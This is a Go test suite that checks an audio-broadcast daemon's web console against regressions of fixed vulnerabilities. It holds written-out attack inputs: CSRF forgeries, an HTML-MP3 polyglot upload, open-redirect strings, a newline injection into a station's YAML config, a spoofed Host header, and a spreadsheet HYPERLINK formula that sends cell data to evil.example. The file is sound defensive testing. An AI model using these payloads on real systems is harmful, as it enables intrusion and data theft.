package daemon

import (
	"bytes"
	"context"
	"encoding/csv"
	"fmt"
	"html"
	"io"
	"mime/multipart"
	"net"
	"net/http"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/loaxa/loaxa/broadcast/audio/audiotest"
	"github.com/loaxa/loaxa/storage"
	"github.com/xuri/excelize/v2"
	"go.yaml.in/yaml/v3"
)

// TestSecurityWebAndFiles is docs/security.md's web console and files part, tried
// against the real daemon over real HTTP on a real bbolt file: one case per
// row of the table and per item of "What to build" that is ours,
// each named after what was tried. Each fails if the old behaviour returns.
func TestSecurityWebAndFiles(t *testing.T) {
	for _, tc := range []struct {
		name string
		run  func(t *testing.T)
	}{
		{"console POSTs as multipart/form-data without the CSRF field (approve, disable device, cancel airing)", secMultipartCSRF},
		{"console POSTs as text/plain and JSON without the CSRF token", secOtherTypesCSRF},
		{"upload an HTML page followed by 200 MP3 frames as poly.mp3", secPolyglotUpload},
		{"fetch stored audio from /audio and /media as a browser would", secAudioHeaders},
		{"sign in with next=/%09/evil.example and other ways off the site", secOpenRedirect},
		{"start on a bbolt file cut in half, and on one overwritten", secDamagedBolt},
		{"SIGKILL during a 300 MB upload, then start again", secKillDuringUpload},
		{"add a device through the console with a broker holding a newline and Host: attacker.example", secStationConfig},
		{"a commune named =HYPERLINK(...) in the CSV and XLSX reports", secFormulaCells},
		{"disk full during upload", secDiskFull},
		{"TLS ended at a proxy: sign in over plain HTTP with public_url https", secSecureCookies},
		{"JSON body with a second object after the first", secTrailingJSON},
		{"periods and months outside 2000-2100", secPeriods},
	} {
		t.Run(tc.name, tc.run)
	}
}

// secBrowser is a browser on the console: cookies by hand (a jar would
// not send Secure cookies back over plain HTTP), redirects not followed.
type secBrowser struct {
	t       *testing.T
	base    string
	host    string // sent as Host when set
	cookies map[string]string
	last    string
}

type secAnswer struct {
	status int
	header http.Header
	body   string
}

func newSecBrowser(t *testing.T, base string) *secBrowser {
	return &secBrowser{t: t, base: base, cookies: map[string]string{}}
}

func (b *secBrowser) do(method, path string, body io.Reader, ctype string, hdr ...string) secAnswer {
	b.t.Helper()
	req, err := http.NewRequest(method, b.base+path, body)
	if err != nil {
		b.t.Fatal(err)
	}
	if ctype != "" {
		req.Header.Set("Content-Type", ctype)
	}
	for i := 0; i+1 < len(hdr); i += 2 {
		req.Header.Set(hdr[i], hdr[i+1])
	}
	if b.host != "" {
		req.Host = b.host
	}
	for k, v := range b.cookies {
		req.AddCookie(&http.Cookie{Name: k, Value: v})
	}
	resp, err := http.DefaultTransport.RoundTrip(req)
	if err != nil {
		b.t.Fatalf("%s %s: %v", method, path, err)
	}
	defer resp.Body.Close()
	raw, _ := io.ReadAll(resp.Body)
	for _, c := range resp.Cookies() {
		if c.MaxAge < 0 {
			delete(b.cookies, c.Name)
		} else {
			b.cookies[c.Name] = c.Value
		}
	}
	a := secAnswer{resp.StatusCode, resp.Header, string(raw)}
	if strings.HasPrefix(resp.Header.Get("Content-Type"), "text/html") {
		b.last = a.body
	}
	return a
}

func (b *secBrowser) get(path string) secAnswer { return b.do("GET", path, nil, "") }

func (b *secBrowser) post(path string, form url.Values) secAnswer {
	return b.do("POST", path, strings.NewReader(form.Encode()), "application/x-www-form-urlencoded")
}

// multipart posts fields as multipart/form-data, as a forged form on
// another site can.
func (b *secBrowser) multipart(path string, fields map[string]string) secAnswer {
	var buf bytes.Buffer
	mw := multipart.NewWriter(&buf)
	for k, v := range fields {
		_ = mw.WriteField(k, v)
	}
	_ = mw.Close()
	return b.do("POST", path, &buf, mw.FormDataContentType())
}

var secCSRFRE = regexp.MustCompile(`name="csrf" value="([^"]+)"`)

func (b *secBrowser) csrf() string {
	b.t.Helper()
	m := secCSRFRE.FindStringSubmatch(b.last)
	if m == nil {
		b.t.Fatalf("no CSRF token in the last page:\n%.2000s", b.last)
	}
	return html.UnescapeString(m[1])
}

// signIn signs in with token and returns POST /login's answer.
func (b *secBrowser) signIn(token, next string) secAnswer {
	b.t.Helper()
	if a := b.get("/login"); a.status != http.StatusOK {
		b.t.Fatalf("GET /login: %d", a.status)
	}
	return b.post("/login", url.Values{"token": {token}, "csrf": {b.csrf()}, "next": {next}})
}

func (f fixture) console(t *testing.T, token string) *secBrowser {
	t.Helper()
	b := newSecBrowser(t, f.c.base)
	if a := b.signIn(token, "/"); a.status != http.StatusSeeOther {
		t.Fatalf("sign in: %d %.500s", a.status, a.body)
	}
	return b
}

// secProgramme uploads audio as lan and returns the programme's id and sha256.
func (f fixture) secProgramme(t *testing.T, audio []byte, filename string) (id, sha string) {
	t.Helper()
	var b bytes.Buffer
	mw := multipart.NewWriter(&b)
	for k, v := range map[string]string{"unit": "380", "month": "2026-12", "title": "Tuyên truyền"} {
		_ = mw.WriteField(k, v)
	}
	fw, _ := mw.CreateFormFile("audio", filename)
	_, _ = fw.Write(audio)
	_ = mw.Close()
	var p struct{ ID, SHA256 string }
	if code := f.c.do("POST", "/api/v1/programmes", f.lan, &b, mw.FormDataContentType(), &p); code != http.StatusCreated {
		t.Fatalf("upload %s: %d", filename, code)
	}
	return p.ID, p.SHA256
}

func (f fixture) programmeStatus(t *testing.T, id string) string {
	var p struct{ Status string }
	f.c.json("GET", "/api/v1/programmes/"+id, f.lan, nil, &p, http.StatusOK)
	return p.Status
}

func (f fixture) stationDevices(t *testing.T, station string) map[string]bool {
	var st struct {
		Devices []struct {
			ID       string
			Disabled bool
		}
	}
	f.c.json("GET", "/api/v1/stations/"+station, f.lan, nil, &st, http.StatusOK)
	out := map[string]bool{}
	for _, d := range st.Devices {
		out[d.ID] = d.Disabled
	}
	return out
}

// secMultipartCSRF: web/session.go skipped the CSRF check of every
// multipart POST, trusting handlers that stream to check it; only the two
// upload handlers do, so approve, disable and cancel went through.
func secMultipartCSRF(t *testing.T) {
	f := startDaemon(t)
	id, _ := f.secProgramme(t, wav(20*time.Second), "a.wav")
	var dev struct{ ID string }
	f.c.json("POST", "/api/v1/stations/14755/devices", f.lan, map[string]string{"id": "14755-01"}, &dev, http.StatusCreated)
	minh := f.console(t, f.minh)

	if a := minh.multipart("/programmes/"+id+"/approve", map[string]string{"note": "forged"}); a.status != http.StatusForbidden {
		t.Fatalf("multipart approve without CSRF: %d, want 403", a.status)
	}
	if s := f.programmeStatus(t, id); s != "draft" {
		t.Fatalf("a forged multipart approve left the programme %s", s)
	}
	if a := minh.multipart("/devices/14755-01/disable", map[string]string{}); a.status != http.StatusForbidden {
		t.Fatalf("multipart disable without CSRF: %d, want 403", a.status)
	}
	if disabled := f.stationDevices(t, "14755")["14755-01"]; disabled {
		t.Fatal("a forged multipart POST disabled the device")
	}
	// The same multipart form with the token is the console's own: it
	// must work, or the check would only be refusing everything.
	minh.get("/programmes/" + id)
	if a := minh.multipart("/programmes/"+id+"/approve", map[string]string{"csrf": minh.csrf()}); a.status != http.StatusSeeOther {
		t.Fatalf("multipart approve with the CSRF field: %d %.500s", a.status, a.body)
	}
	if s := f.programmeStatus(t, id); s != "approved" {
		t.Fatalf("approve with the token left the programme %s", s)
	}
	var as struct {
		Airings []struct{ ID, Status string }
	}
	f.c.json("GET", "/api/v1/airings?programme="+id, f.lan, nil, &as, http.StatusOK)
	if len(as.Airings) == 0 {
		t.Fatal("the approved programme has no airings to cancel")
	}
	a0 := as.Airings[0]
	if a := minh.multipart("/airings/"+a0.ID+"/cancel", map[string]string{"reason": "forged"}); a.status != http.StatusForbidden {
		t.Fatalf("multipart cancel without CSRF: %d, want 403", a.status)
	}
	var after struct{ Status string }
	f.c.json("GET", "/api/v1/airings/"+a0.ID, f.lan, nil, &after, http.StatusOK)
	if after.Status != a0.Status {
		t.Fatalf("a forged multipart cancel moved the airing from %s to %s", a0.Status, after.Status)
	}
	// The uploads, which stream, still refuse a form without the token.
	var buf bytes.Buffer
	mw := multipart.NewWriter(&buf)
	_ = mw.WriteField("unit", "380")
	fw, _ := mw.CreateFormFile("audio", "x.wav")
	_, _ = fw.Write(wav(time.Second))
	_ = mw.Close()
	if a := minh.do("POST", "/programmes", &buf, mw.FormDataContentType()); a.status != http.StatusForbidden {
		t.Fatalf("multipart upload without CSRF: %d, want 403", a.status)
	}
}

func secOtherTypesCSRF(t *testing.T) {
	f := startDaemon(t)
	id, _ := f.secProgramme(t, wav(20*time.Second), "a.wav")
	minh := f.console(t, f.minh)
	for _, ctype := range []string{"text/plain", "application/json", "multipart/form-data", ""} {
		if a := minh.do("POST", "/programmes/"+id+"/approve", strings.NewReader("csrf=x"), ctype); a.status != http.StatusForbidden {
			t.Fatalf("POST as %q without the token: %d, want 403", ctype, a.status)
		}
	}
	if s := f.programmeStatus(t, id); s != "draft" {
		t.Fatalf("a forged POST left the programme %s", s)
	}
}

// secPolyglotUpload: the probe hunted 256 KiB for a first frame, so an
// HTML page in front of real frames was stored as audio/mpeg.
func secPolyglotUpload(t *testing.T) {
	f := startDaemon(t)
	page := []byte(`<!doctype html><html><head><meta http-equiv="refresh" content="0;url=https://evil.example/"></head><body>loa</body></html>` + "\n")
	big := bytes.Repeat([]byte("<p>Kính gửi các đồng chí</p>\n"), 200) // past one frame's length
	fields := map[string]string{"unit": "380", "month": "2026-12", "title": "poly"}
	for name, body := range map[string][]byte{"short page": append(page, audiotest.MP3(200)...), "long page": append(big, audiotest.MP3(200)...)} {
		var buf bytes.Buffer
		mw := multipart.NewWriter(&buf)
		for k, v := range fields {
			_ = mw.WriteField(k, v)
		}
		fw, _ := mw.CreateFormFile("audio", "poly.mp3")
		_, _ = fw.Write(body)
		_ = mw.Close()
		var e apiError
		if code := f.c.do("POST", "/api/v1/programmes", f.lan, &buf, mw.FormDataContentType(), &e); code != http.StatusUnsupportedMediaType || e.Error.Field != "audio" {
			t.Fatalf("%s + 200 MP3 frames: %d %+v, want 415 on audio", name, code, e)
		}
	}
	// The frames alone are audio: the refusal is about what precedes them.
	f.secProgramme(t, audiotest.MP3(200), "ok.mp3")
	var list struct{ Programmes []any }
	f.c.json("GET", "/api/v1/programmes", f.lan, nil, &list, http.StatusOK)
	if len(list.Programmes) != 1 {
		t.Fatalf("%d programmes, want only the plain MP3", len(list.Programmes))
	}
}

// secAudioHeaders: /media served what ServeContent sniffed (text/html for
// a page), on the console's origin.
func secAudioHeaders(t *testing.T) {
	f := startDaemon(t)
	_, mp3 := f.secProgramme(t, audiotest.MP3(200), "a.mp3")
	_, wavSHA := f.secProgramme(t, wav(3*time.Second), "b.wav")
	lan := f.console(t, f.lan)
	for _, c := range []struct{ sha, ctype, ext string }{{mp3, "audio/mpeg", "mp3"}, {wavSHA, "audio/wav", "wav"}} {
		for _, via := range []string{"/audio/", "/media/"} {
			var a secAnswer
			if via == "/audio/" {
				a = newSecBrowser(t, f.c.base).do("GET", via+c.sha, nil, "", "Authorization", "Bearer "+f.lan)
			} else {
				a = lan.get(via + c.sha)
			}
			h := a.header
			if a.status != http.StatusOK || h.Get("Content-Type") != c.ctype || h.Get("X-Content-Type-Options") != "nosniff" ||
				!strings.HasPrefix(h.Get("Content-Security-Policy"), "sandbox") ||
				h.Get("Content-Disposition") != fmt.Sprintf(`inline; filename=%s.%s`, c.sha, c.ext) {
				t.Fatalf("GET %s%s: %d, headers %v", via, c.sha[:8], a.status, h)
			}
		}
	}
	// The emergency audio awaiting its second confirmation is not probed;
	// it was served with the Content-Type its uploader's browser claimed.
	lan.get("/emergency")
	var buf bytes.Buffer
	mw := multipart.NewWriter(&buf)
	_ = mw.WriteField("csrf", lan.csrf())
	_ = mw.WriteField("unit", "380")
	_ = mw.WriteField("title", "Bão số 3")
	_ = mw.WriteField("confirm1", "yes")
	hdr := make(map[string][]string)
	hdr["Content-Disposition"] = []string{`form-data; name="audio"; filename="page.html"`}
	hdr["Content-Type"] = []string{"text/html"}
	pw, _ := mw.CreatePart(hdr)
	_, _ = pw.Write([]byte(`<html><meta http-equiv="refresh" content="0;url=https://evil.example/"></html>`))
	_ = mw.Close()
	if a := lan.do("POST", "/emergency", &buf, mw.FormDataContentType()); a.status != http.StatusOK {
		t.Fatalf("emergency, first confirmation: %d %.1000s", a.status, a.body)
	}
	a := lan.get("/emergency/pending/audio")
	if h := a.header; a.status != http.StatusOK || !strings.HasPrefix(h.Get("Content-Type"), "audio/") || h.Get("X-Content-Type-Options") != "nosniff" ||
		!strings.HasPrefix(h.Get("Content-Security-Policy"), "sandbox") {
		t.Fatalf("pending emergency audio: %d, headers %v", a.status, h)
	}
}

// secOpenRedirect: safeNext let "/\t/evil.example" through; browsers drop
// the tab and go to //evil.example.
func secOpenRedirect(t *testing.T) {
	f := startDaemon(t)
	for next, want := range map[string]string{
		"/\t/evil.example":        "/",
		"/\n/evil.example":        "/",
		"/\x00/evil.example":      "/",
		"//evil.example":          "/",
		"/\\evil.example":         "/",
		"/a\\..\\\\evil.example":  "/",
		"https://evil.example/":   "/",
		"javascript:alert(1)":     "/",
		"/schedule?month=2026-12": "/schedule?month=2026-12",
	} {
		b := newSecBrowser(t, f.c.base)
		a := b.signIn(f.lan, next)
		if a.status != http.StatusSeeOther || a.header.Get("Location") != want {
			t.Fatalf("sign in with next=%q: %d Location %q, want %q", next, a.status, a.header.Get("Location"), want)
		}
	}
	// The form carries the cleaned value, not the one in the link.
	b := newSecBrowser(t, f.c.base)
	a := b.get("/login?next=/%09/evil.example")
	if !strings.Contains(a.body, `name="next" value="/"`) {
		t.Fatalf("the sign-in form keeps a bad next:\n%.2000s", a.body)
	}
}

// secDamagedBolt: bbolt mapped pages past the end of a file cut short
// and the process died of SIGBUS in bbolt's goroutine, with a stack trace
// and no word about the file. Run in a child process so that, if that
// comes back, it is this case that fails and says so.
func secDamagedBolt(t *testing.T) {
	if os.Getenv("LOAXA_SEC_DAMAGED_DIR") != "" {
		return // the child's work is in TestSecDamagedBoltChild
	}
	for _, damage := range []string{"half", "overwritten"} {
		dir := t.TempDir()
		cfg := testConfig(t)
		cfg.DataDir = dir
		d, err := Start(context.Background(), Options{Config: cfg, Logger: testLogger(t)})
		if err != nil {
			t.Fatal(err)
		}
		if err := d.Close(); err != nil {
			t.Fatal(err)
		}
		db := filepath.Join(dir, storage.DBFile)
		fi, err := os.Stat(db)
		if err != nil {
			t.Fatal(err)
		}
		switch damage {
		case "half":
			err = os.Truncate(db, fi.Size()/2)
		case "overwritten":
			err = os.WriteFile(db, bytes.Repeat([]byte("loa loa "), int(fi.Size()/8)), 0o600)
		}
		if err != nil {
			t.Fatal(err)
		}
		cmd := exec.Command(os.Args[0], "-test.run", "^TestSecDamagedBoltChild$", "-test.v")
		cmd.Env = append(os.Environ(), "LOAXA_SEC_DAMAGED_DIR="+dir)
		out, _ := cmd.CombinedOutput()
		text := string(out)
		for _, want := range []string{"CHILD-ERROR:", db, "damaged", "restore", "last backup"} {
			if !strings.Contains(text, want) {
				t.Fatalf("%s file: the start's answer lacks %q:\n%s", damage, want, text)
			}
		}
		for _, bad := range []string{"goroutine ", "SIGBUS", "panic:", "fatal error"} {
			if strings.Contains(text, bad) {
				t.Fatalf("%s file: the start crashed (%q):\n%s", damage, bad, text)
			}
		}
	}
}

// TestSecDamagedBoltChild is secDamagedBolt's child process: it starts the
// daemon on the damaged directory and prints the error.
func TestSecDamagedBoltChild(t *testing.T) {
	dir := os.Getenv("LOAXA_SEC_DAMAGED_DIR")
	if dir == "" {
		t.Skip("run by TestSecurityWebAndFiles in a child process")
	}
	cfg := testConfig(t)
	cfg.DataDir = dir
	d, err := Start(context.Background(), Options{Config: cfg, Logger: testLogger(t)})
	if err == nil {
		d.Close()
		fmt.Println("CHILD-STARTED")
		return
	}
	fmt.Println("CHILD-ERROR:", err)
}

// secKillDuringUpload: the spool of an upload cut short by SIGKILL stayed
// in the data directory for ever.
func secKillDuringUpload(t *testing.T) {
	bin := buildLoaxad(t)
	dir := t.TempDir()
	dataDir := filepath.Join(dir, "data")
	port := freePort(t)
	base := fmt.Sprintf("http://127.0.0.1:%d", port)
	conf := filepath.Join(dir, "loaxad.yaml")
	yml := fmt.Sprintf("data_dir: %s\nhttp:\n  listen: 127.0.0.1:%d\n  public_url: %s\nmqtt:\n  embedded:\n    enabled: true\n    listen: 127.0.0.1:%d\nunits_csv: %s\n",
		dataDir, port, base, freePort(t), absPath(t, "../../../configs/data/thanh-hoa-units-2025-03.csv"))
	if err := os.WriteFile(conf, []byte(yml), 0o600); err != nil {
		t.Fatal(err)
	}
	p := startLoaxad(t, bin, conf, base)
	admin, err := os.ReadFile(filepath.Join(dataDir, "admin.token"))
	if err != nil {
		t.Fatal(err)
	}

	// 300 MB announced and streamed; the daemon is killed once 16 MB
	// are spooled.
	const total = 300 << 20
	pr, pw := io.Pipe()
	mw := multipart.NewWriter(pw)
	go func() {
		_ = mw.WriteField("unit", "380")
		_ = mw.WriteField("month", "2026-12")
		_ = mw.WriteField("title", "big")
		fw, _ := mw.CreateFormFile("audio", "big.wav")
		chunk := make([]byte, 1<<20)
		for sent := 0; sent < total; sent += len(chunk) {
			if _, err := fw.Write(chunk); err != nil {
				pw.CloseWithError(err)
				return
			}
		}
		pw.CloseWithError(mw.Close())
	}()
	req, _ := http.NewRequest("POST", base+"/api/v1/programmes", pr)
	req.Header.Set("Authorization", "Bearer "+strings.TrimSpace(string(admin)))
	req.Header.Set("Content-Type", mw.FormDataContentType())
	done := make(chan struct{})
	go func() {
		defer close(done)
		if resp, err := http.DefaultClient.Do(req); err == nil {
			resp.Body.Close()
		}
	}()
	spool := ""
	deadline := time.Now().Add(60 * time.Second)
	for spool == "" {
		left, _ := filepath.Glob(filepath.Join(dataDir, "upload-*"))
		for _, f := range left {
			if fi, err := os.Stat(f); err == nil && fi.Size() >= 16<<20 {
				spool = f
			}
		}
		if time.Now().After(deadline) {
			t.Fatal("the upload was not spooled within 60 s")
		}
		time.Sleep(10 * time.Millisecond) // polling the spool's size: the only sign of progress
	}
	p.kill()
	pr.CloseWithError(io.ErrClosedPipe)
	<-done
	if _, err := os.Stat(spool); err != nil {
		t.Fatalf("the kill should leave the spool for this case to mean anything: %v", err)
	}
	// What a kill inside PutBlob or between the two emergency
	// confirmations leaves, next to it.
	for _, f := range []string{filepath.Join(dataDir, "blobs", "tmp-123456"), filepath.Join(dataDir, "loaxa-emergency-42")} {
		if err := os.WriteFile(f, []byte("cut short"), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	p.start()
	for _, pat := range []string{"upload-*", "loaxa-emergency-*", "blobs/tmp-*"} {
		if left, _ := filepath.Glob(filepath.Join(dataDir, pat)); len(left) > 0 {
			t.Fatalf("after a restart %s is still there: %v", pat, left)
		}
	}
}

// secStationConfig: the station YAML was printed with %s from the form's
// broker and the request's Host.
func secStationConfig(t *testing.T) {
	f := startDaemon(t)
	_, brokerPort, err := net.SplitHostPort(f.d.BrokerAddr())
	if err != nil {
		t.Fatal(err)
	}
	wantBroker := "tcp://127.0.0.1:" + brokerPort
	lan := f.console(t, f.lan)
	lan.host = "attacker.example"
	a := lan.get("/stations/14755")
	if a.status != http.StatusOK || !strings.Contains(a.body, `value="`+wantBroker+`"`) || strings.Contains(a.body, "attacker") {
		t.Fatalf("the station page suggests another broker than %s:\n%.3000s", wantBroker, a.body)
	}
	injected := "tcp://x:1883\ndaemon_url: http://attacker.example"
	a = lan.post("/stations/14755/devices", url.Values{"id": {"14755-07"}, "broker": {injected}, "csrf": {lan.csrf()}})
	if a.status != http.StatusUnprocessableEntity || !strings.Contains(a.body, `id="err-broker">`) || !strings.Contains(a.body, "xuống dòng") {
		t.Fatalf("a broker with a line break: %d, want 422 with the reason next to the field:\n%.3000s", a.status, a.body)
	}
	if _, ok := f.stationDevices(t, "14755")["14755-07"]; ok {
		t.Fatal("a refused form still added the device")
	}
	a = lan.post("/stations/14755/devices", url.Values{"id": {"14755-07"}, "csrf": {lan.csrf()}})
	if a.status != http.StatusCreated {
		t.Fatalf("add device: %d %.1000s", a.status, a.body)
	}
	m := regexp.MustCompile(`(?s)<pre[^>]*>(.*?)</pre>`).FindStringSubmatch(a.body)
	if m == nil {
		t.Fatalf("no station config on the page:\n%.3000s", a.body)
	}
	conf := html.UnescapeString(m[1])
	var got map[string]any
	if err := yaml.Unmarshal([]byte(conf), &got); err != nil {
		t.Fatalf("the station config is not YAML: %v\n%s", err, conf)
	}
	if got["daemon_url"] != f.c.base || got["broker"] != wantBroker || got["device"] != "14755-07" || strings.Contains(conf, "attacker") {
		t.Fatalf("station config from the Host, not the configuration (want daemon_url %s, broker %s):\n%s", f.c.base, wantBroker, conf)
	}
}

// secFormulaCells: unit names went into CSV cells as they are.
func secFormulaCells(t *testing.T) {
	f := startDaemon(t)
	name := `=HYPERLINK("http://evil.example/?"&A1,"Xã Đông")`
	var csvBody bytes.Buffer
	w := csv.NewWriter(&csvBody)
	_ = w.Write([]string{"province_code", "province_name", "district_code", "district_name", "district_type", "commune_code", "commune_name", "commune_type"})
	_ = w.Write([]string{"38", "Tỉnh Thanh Hóa", "380", "Thành phố Thanh Hóa", "Thành phố", "99001", name, "Xã"})
	w.Flush()
	if code := f.c.do("POST", "/api/v1/units/import", f.admin, &csvBody, "text/csv", nil); code != http.StatusOK {
		t.Fatalf("import: %d", code)
	}
	read := func(format string) []byte {
		req, _ := http.NewRequest("GET", f.c.base+"/api/v1/compliance?period=2026-12&unit=380&format="+format, nil)
		req.Header.Set("Authorization", "Bearer "+f.lan)
		resp, err := http.DefaultClient.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		defer resp.Body.Close()
		b, _ := io.ReadAll(resp.Body)
		if resp.StatusCode != http.StatusOK {
			t.Fatalf("report as %s: %d %s", format, resp.StatusCode, b)
		}
		return b
	}
	rows, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(read("csv"), []byte("\ufeff")))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	found := false
	for _, r := range rows {
		for _, c := range r {
			if strings.Contains(c, "HYPERLINK") {
				found = true
				if c != "'"+name {
					t.Fatalf("CSV cell %q is not escaped", c)
				}
			}
		}
	}
	if !found {
		t.Fatalf("the commune is not in the CSV report:\n%v", rows)
	}
	x, err := excelize.OpenReader(bytes.NewReader(read("xlsx")))
	if err != nil {
		t.Fatal(err)
	}
	found = false
	for _, sheet := range x.GetSheetList() {
		rows, err := x.GetRows(sheet)
		if err != nil {
			t.Fatal(err)
		}
		for _, r := range rows {
			for _, c := range r {
				if strings.Contains(c, "HYPERLINK") {
					found = true
					if !strings.HasPrefix(c, "'=") {
						t.Fatalf("XLSX cell %q on %s is not escaped", c, sheet)
					}
				}
			}
		}
	}
	if !found {
		t.Fatal("the commune is not in the XLSX report")
	}
}

// secDiskFull: a write error of the spool was "reading the upload failed"
// or a generic 500. A tmpfs of 24 MiB is the data directory.
func secDiskFull(t *testing.T) {
	if os.Geteuid() != 0 {
		t.Skip("skipping: mounting a small tmpfs to fill needs root; run the suite as root to try a full disk for real")
	}
	mnt := t.TempDir()
	if out, err := exec.Command("mount", "-t", "tmpfs", "-o", "size=24m", "tmpfs", mnt).CombinedOutput(); err != nil {
		t.Skipf("skipping: cannot mount a tmpfs here (%v: %s); a full disk needs one", err, out)
	}
	t.Cleanup(func() {
		if out, err := exec.Command("umount", mnt).CombinedOutput(); err != nil {
			t.Errorf("umount %s: %v %s", mnt, err, out)
		}
	})
	cfg := testConfig(t)
	cfg.DataDir = mnt
	ctx, cancel := context.WithCancel(context.Background())
	t.Cleanup(cancel)
	d, err := Start(ctx, Options{Config: cfg, Logger: testLogger(t), Clock: newShiftedClock(time.Date(2026, 12, 10, 8, 0, 0, 0, ict))})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { d.Close() })
	admin, err := os.ReadFile(filepath.Join(mnt, "admin.token"))
	if err != nil {
		t.Fatal(err)
	}
	f := fixture{c: client{t: t, base: "http://" + d.HTTPAddr()}, d: d, admin: strings.TrimSpace(string(admin)), dir: mnt}
	f.lan = f.admin
	kept := wav(2 * time.Second)
	id, sha := f.secProgramme(t, kept, "kept.wav")

	var st syscall.Statfs_t
	if err := syscall.Statfs(mnt, &st); err != nil {
		t.Fatal(err)
	}
	free := int64(st.Bavail) * int64(st.Bsize)
	big := make([]byte, free+4<<20) // more than is left
	copy(big, wav(time.Second)[:44])
	var buf bytes.Buffer
	mw := multipart.NewWriter(&buf)
	for k, v := range map[string]string{"unit": "380", "month": "2026-12", "title": "too big for the disk"} {
		_ = mw.WriteField(k, v)
	}
	fw, _ := mw.CreateFormFile("audio", "big.wav")
	_, _ = fw.Write(big)
	_ = mw.Close()
	var e apiError
	code := f.c.do("POST", "/api/v1/programmes", f.admin, &buf, mw.FormDataContentType(), &e)
	if code != http.StatusInsufficientStorage || e.Error.Code != "no_space" || !strings.Contains(e.Error.Message, "disk is full") {
		t.Fatalf("upload onto a full disk: %d %+v, want 507 no_space", code, e)
	}
	// Nothing of it is left, and nothing before it is lost.
	if left, _ := filepath.Glob(filepath.Join(mnt, "upload-*")); len(left) > 0 {
		t.Fatalf("the refused upload left %v", left)
	}
	if s := f.programmeStatus(t, id); s != "draft" {
		t.Fatalf("the programme stored before is %q", s)
	}
	var got bytes.Buffer
	req, _ := http.NewRequest("GET", f.c.base+"/audio/"+sha, nil)
	req.Header.Set("Authorization", "Bearer "+f.admin)
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	_, _ = io.Copy(&got, resp.Body)
	resp.Body.Close()
	if !bytes.Equal(got.Bytes(), kept) {
		t.Fatalf("the audio stored before the full disk came back as %d bytes, want %d", got.Len(), len(kept))
	}
	// The space came back: the next upload is stored.
	f.secProgramme(t, audiotest.Tone(2*time.Second, 50), "after.wav")
}

// secSecureCookies: setCookie marked cookies Secure only when the
// connection to the daemon was TLS, never behind a TLS-ending proxy.
func secSecureCookies(t *testing.T) {
	cfg := testConfig(t)
	cfg.HTTP.PublicURL = "https://loa.thanhhoa.example"
	ctx, cancel := context.WithCancel(context.Background())
	t.Cleanup(cancel)
	d, err := Start(ctx, Options{Config: cfg, Logger: testLogger(t)})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { d.Close() })
	admin, err := os.ReadFile(filepath.Join(cfg.DataDir, "admin.token"))
	if err != nil {
		t.Fatal(err)
	}
	b := newSecBrowser(t, "http://"+d.HTTPAddr())
	req, _ := http.NewRequest("GET", b.base+"/login?lang=en", nil)
	resp, err := http.DefaultTransport.RoundTrip(req)
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	a := b.signIn(strings.TrimSpace(string(admin)), "/")
	if a.status != http.StatusSeeOther {
		t.Fatalf("sign in: %d", a.status)
	}
	cookies := append(resp.Cookies(), (&http.Response{Header: a.header}).Cookies()...)
	seen := map[string]bool{}
	for _, c := range cookies {
		seen[c.Name] = true
		if !c.Secure {
			t.Fatalf("cookie %s is not Secure behind https public_url: %s", c.Name, c.Raw)
		}
	}
	if !seen["loaxa_session"] || !seen["loaxa_lang"] {
		t.Fatalf("cookies set: %v", seen)
	}
}

// secTrailingJSON: json.Decoder read the first value and ignored the rest.
func secTrailingJSON(t *testing.T) {
	f := startDaemon(t)
	for _, body := range []string{`{"id":"14755-09"}{"id":"14755-10"}`, `{"id":"14755-09"} trailing`} {
		var e apiError
		if code := f.c.do("POST", "/api/v1/stations/14755/devices", f.lan, strings.NewReader(body), "application/json", &e); code != http.StatusBadRequest ||
			e.Error.Code != "malformed" || !strings.Contains(e.Error.Message, "after the JSON value") {
			t.Fatalf("%s: %d %+v, want 400 malformed", body, code, e)
		}
	}
	devs := f.stationDevices(t, "14755")
	if len(devs) != 0 {
		t.Fatalf("a refused body added devices: %v", devs)
	}
	// One object, then white space, is fine.
	f.c.json("POST", "/api/v1/stations/14755/devices", f.lan, map[string]string{"id": "14755-09"}, nil, http.StatusCreated)
}

// secPeriods: ParseMonth took any year from 0000 to 9999, ParsePeriod any
// from 2000 up.
func secPeriods(t *testing.T) {
	f := startDaemon(t)
	for _, p := range []string{"2101", "1999", "2101-H1", "1999-12", "9999-12", "0001-01", "+202"} {
		var e apiError
		if code := f.c.do("GET", "/api/v1/compliance?period="+url.QueryEscape(p)+"&unit=380", f.lan, nil, "", &e); code != http.StatusUnprocessableEntity || e.Error.Field != "period" {
			t.Fatalf("period %s: %d %+v, want 422 on period", p, code, e)
		}
	}
	for _, p := range []string{"2000-01", "2100-12", "2100-H2", "2000"} {
		if code := f.c.do("GET", "/api/v1/compliance?period="+p+"&unit=380", f.lan, nil, "", nil); code != http.StatusOK {
			t.Fatalf("period %s: %d, want 200", p, code)
		}
	}
	var e apiError
	if code := f.c.upload(f.lan, map[string]string{"unit": "380", "month": "2101-01", "title": "x"}, wav(time.Second), &e); code != http.StatusUnprocessableEntity || e.Error.Field != "month" {
		t.Fatalf("upload for 2101-01: %d %+v", code, e)
	}
	lan := f.console(t, f.lan)
	if a := lan.get("/reports?period=2150&unit=380"); a.status != http.StatusUnprocessableEntity {
		t.Fatalf("the console's report page took period 2150: %d, want 422", a.status)
	}
}

func freePort(t *testing.T) int {
	t.Helper()
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer l.Close()
	return l.Addr().(*net.TCPAddr).Port
}

func absPath(t *testing.T, p string) string {
	t.Helper()
	a, err := filepath.Abs(p)
	if err != nil {
		t.Fatal(err)
	}
	return a
}
